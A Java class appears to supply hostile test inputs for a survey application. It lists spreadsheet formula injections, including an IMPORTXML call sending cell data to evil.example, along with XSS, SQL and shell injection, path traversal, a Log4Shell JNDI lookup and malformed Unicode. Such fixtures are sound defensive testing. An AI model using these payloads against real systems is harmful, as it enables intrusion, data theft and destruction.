package io.rapport.survey;

import java.util.List;
import java.util.stream.Stream;

/** Texts that have broken somebody's system: each is stored, and given back, as it came. */
public final class HostileTexts {

  private static final List<String> SEEDS =
      List.of(
          // Spreadsheets run them.
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(1+1)",
          "=HYPERLINK(\"http://evil.example\",\"click\")",
          "=cmd|' /C calc'!A0",
          "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          " =1+1",
          "＝1+1",
          "\",=1+1,\"",
          "\"\r\n=1+1",
          "%0A=1+1",
          // Browsers run them.
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "\"><svg/onload=alert(1)>",
          "'><iframe src=javascript:alert(1)>",
          "</textarea><script>alert(1)</script>",
          "</title><script>alert(1)</script>",
          "<!--<script>",
          "]]><script>",
          "javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "{{constructor.constructor('alert(1)')()}}",
          "{#include hidden /}{inject:vertx}",
          "${7*7}#{7*7}",
          "<style>body{display:none}</style>",
          "&lt;script&gt;&amp;amp;&#60;&quot;",
          // Databases and shells run them.
          "'; drop table response; --",
          "' or '1'='1",
          "$$; select pg_sleep(10); $$",
          "\\'; delete from survey where 1=1; --",
          "%_\\%",
          "$(touch /tmp/x)",
          "`id`",
          "; cat /etc/passwd",
          "../../../../etc/passwd",
          "${jndi:ldap://evil.example/a}",
          "%s%n%x%d",
          // JSON and CSV end in them.
          "\"",
          "\\",
          "\\\"",
          "\"\"",
          "\",\"completed\":true,\"x\":\"",
          "\\u0000",
          "\\ud800",
          ",",
          ";|\t",
          "a\r\nb\rc\nd",
          "null",
          "true",
          "1e309",
          "NaN",
          "{}",
          "[]",
          // Bytes that somebody does not expect.
          "\u0000",
          "a\u0000b",
          "\u0001\u0002\u0007\b\f\u001b[31m",
          "\u007f\u0085\u009f",
          "\u200b\u200c\u200d\u2060",
          "\ufeffbom",
          "\u202eright to left\u202c",
          "\u2066\u2069",
          "\u2028\u2029",
          "\ufffd\ufffe\uffff",
          "\ud83d\ude00",
          "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "\ud83c\udde9\ud83c\uddea",
          "\udbff\udfff",
          "Z\u0351\u036b\u0343\u0342a\u034f\u0363l\u0301go\u0300\u0301\u0302\u0303",
          "e\u0301 \u00e9",
          "İıſßẞ",
          "ﷺ﷽",
          "مرحبا 你好 שלום",
          "\u00a0\u3000x",
          "＜script＞",
          "ａ＇ｂ");

  private HostileTexts() {}

  /** More than five hundred: each one alone and within others. */
  public static List<String> all() {
    return SEEDS.stream()
        .flatMap(
            seed ->
                Stream.of(
                    seed,
                    "x" + seed,
                    seed + "x",
                    " " + seed + " ",
                    "\"" + seed + "\"",
                    "'" + seed + "'",
                    "<b>" + seed + "</b>"))
        .distinct()
        .toList();
  }
}
